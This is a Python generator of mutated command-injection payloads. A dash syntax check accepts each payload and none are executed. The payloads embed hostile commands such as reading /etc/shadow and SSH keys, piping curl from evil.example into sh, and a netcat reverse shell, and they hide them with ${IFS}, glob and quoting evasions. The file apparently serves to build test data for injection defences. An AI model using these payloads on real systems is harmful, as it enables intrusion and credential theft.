"""Mutants of command injections, each accepted only when dash reads the whole command line (`dash -n`) with it."""

import os
import random

from mutants_dice import Dice

CONTEXTS = {
    "bare": ("ping -c 1 {}", ""),
    "single quotes": ("grep '{}' log", "'"),
    "double quotes": ('grep "{}" log', '"'),
    "an option": ("convert --size={} in out", ""),
    "in $( )": ("x=$(host {})", ""),
}
VALUES = ["", "", "x", "127.0.0.1", "a.png", "10", "example.org", "anna", "-", "1.1.1.1 "]


class Oracle:
    def __init__(self):
        self.null = os.open(os.devnull, os.O_RDWR)

    def is_attack(self, context, value):
        """Syntax only: nothing is run. That the value leaves its place is in how it was made."""
        if "\0" in value:
            return False
        actions = [(os.POSIX_SPAWN_DUP2, self.null, n) for n in (0, 1, 2)]
        process = os.posix_spawn(
            "/bin/dash", ["dash", "-n", "-c", CONTEXTS[context][0].replace("{}", value)], {}, file_actions=actions
        )
        return os.waitpid(process, 0)[1] == 0


class Maker(Dice):
    """Same seed, same mutants."""

    def __init__(self, seed):
        super().__init__(random.Random(seed))

    def command(self):
        file = self.one(
            "/etc/passwd",
            "/etc/shadow",
            "/etc/hosts",
            "/proc/self/environ",
            "/var/log/auth.log",
            "~/.ssh/id_rsa",
            "config.php",
        )
        host = self.one("evil.example", "203.0.113.9", "203.0.113.9:8080")
        return self.one(
            "cat " + file,
            "cat " + file,
            "head -n 5 " + file,
            "tac " + file,
            "nl " + file,
            "id",
            "whoami",
            "uname -a",
            "ls -la /",
            "ps aux",
            "sleep 5",
            "ping -c 3 203.0.113.9",
            "wget http://%s/x -O /tmp/x" % host,
            "curl http://%s/x" % host,
            "curl -s http://%s/x|sh" % host,
            "nc 203.0.113.9 4444 -e /bin/sh",
            "rm -rf /tmp/x",
            "chmod 777 /tmp/x",
            "python3 -c 'import os'",
            "perl -e 'print 1'",
            "php -r 'phpinfo();'",
            "echo aWQ=|base64 -d|sh",
            "env",
            "netstat -an",
            "ifconfig",
            "nslookup %s" % host,
            "touch /tmp/x",
            "echo x>/tmp/x",
            "cp %s /tmp" % file,
            "grep root " + file,
            "find / -name x",
            "tar cf - /etc",
            "kill -9 1",
            "crontab -l",
            "ssh %s" % host,
            "mkfifo /tmp/p",
            "dd if=" + file,
            "xxd " + file,
            "od -c " + file,
            "awk 1 " + file,
            "sed p " + file,
            "bash -c id",
            "sh -c 'id'",
            "printenv",
        )

    def in_pieces(self, word):
        """A word that the shell puts together again."""
        if len(word) < 2:
            return word
        at = self.dice.randrange(1, len(word))
        head, tail = word[:at], word[at:]
        return head + self.one("''", '""', "\\", "$@", "${x}", "$*", "\\\n", "$1", "${z}", "`:`", "$()") + tail

    def hidden_name(self, word):
        return self.one(
            self.in_pieces(word),
            self.in_pieces(word),
            "'%s'" % word,
            '"%s"' % word,
            "/bin/" + word,
            "/usr/bin/" + word,
            "/usr/../bin/" + word,
            "/b?n/" + word,
            "/???/" + word[:-1] + "?",
            "/bin/" + word[0] + "*",
            "$(echo %s)" % word,
            "`echo %s`" % word,
            "$(printf %s)" % word,
            "command " + word,
            "exec " + word,
            "env " + word,
            "nohup " + word,
            "time " + word,
            "\\" + word,
            "'%s'%s" % (word[0], word[1:]),
            "builtin " + word,
            "busybox " + word,
            "$0 -c " + word,
            "eval " + word,
            "a=%s;$a" % word,
            "a=%s;b=%s;$a$b" % (word[:1], word[1:]),
            "! " + word,
        )

    def hidden_argument(self, word):
        if word.startswith("'") or "|" in word or ">" in word:
            return word
        return self.one(
            self.in_pieces(word),
            "'%s'" % word,
            '"%s"' % word,
            word[:-1] + "?",
            word[:-2] + "*",
            word.replace("/", "//"),
            word.replace("/", "/./", 1),
            word.replace("etc", "e*c"),
            word.replace("a", "[a]"),
            '"%s"%s' % (word[:3], word[3:]),
            "$(echo %s)" % word,
        )

    def mutated(self, command):
        used = []
        words = command.split(" ")
        if self.dice.random() < 0.45:
            words[0] = self.hidden_name(words[0])
            used.append("name")
        if len(words) > 1 and "'" not in command and self.dice.random() < 0.35:
            words[-1] = self.hidden_argument(words[-1])
            used.append("argument")
        blank = " "
        if self.dice.random() < 0.3 and "'" not in command:
            blank = self.one("\t", "${IFS}", "$IFS$9", "${IFS%??}", "  ", "$IFS", " \\\n", "${IFS}$@")
            used.append("blanks")
        command = blank.join(words)
        if len(words) == 2 and words[0] in ("cat", "tac", "nl", "xxd") and self.dice.random() < 0.3:
            command = self.one("%s<%s", "%s < %s", "<%.0s%s cat") % (words[0], words[1])
            used.append("redirect")
        if self.dice.random() < 0.25:
            command = (
                self.one(
                    "(%s)",
                    "{ %s;}",
                    "if :;then %s;fi",
                    "%s 2>&1",
                    "%s>/dev/null",
                    "%s &",
                    "while %s;do break;done",
                    "true&&%s",
                    "false||%s",
                    "%s|cat",
                    "for i in 1;do %s;done",
                    "case x in *)%s;;esac",
                    "f(){ %s;};f",
                    "x=1 %s",
                    "until %s;do :;done",
                    ">/tmp/y %s",
                    ":|%s",
                    "!(%s)",
                )
                % command
            )
            used.append("wrapped")
        return command, used

    def mutant(self):
        context = self.one(*CONTEXTS)
        closer = CONTEXTS[context][1]
        command, used = self.mutated(self.command())
        value = self.one(*VALUES)
        technique = self.one("separator", "separator", "substitution", "line end")
        if technique == "substitution" and context != "single quotes":
            return context, technique, used, value + self.one("$(%s)", "`%s`", "$( %s )", "$(:;%s)") % command
        separator = (
            self.one("\n", "\r\n", " \n ")
            if technique == "line end"
            else self.one(";", "|", "||", "&&", "&", "; ", " | ", " && ", " & ", " || ", ";\t", ";:;", "&&:&&")
        )
        tail = (
            self.one("", "", "#", " #", ";", " ;", "&", "\n", "|cat")
            if not closer
            else self.one(";", "|", "&&", "&", "; ", "\n", "||") + self.one("", " ", ":") + closer
        )
        if closer and self.dice.random() < 0.4:
            tail = self.one("#", " #", ";#", "\n#", " # ")
        return (
            context,
            "line end" if technique == "line end" else "separator",
            used,
            value + closer + separator + command + tail,
        )
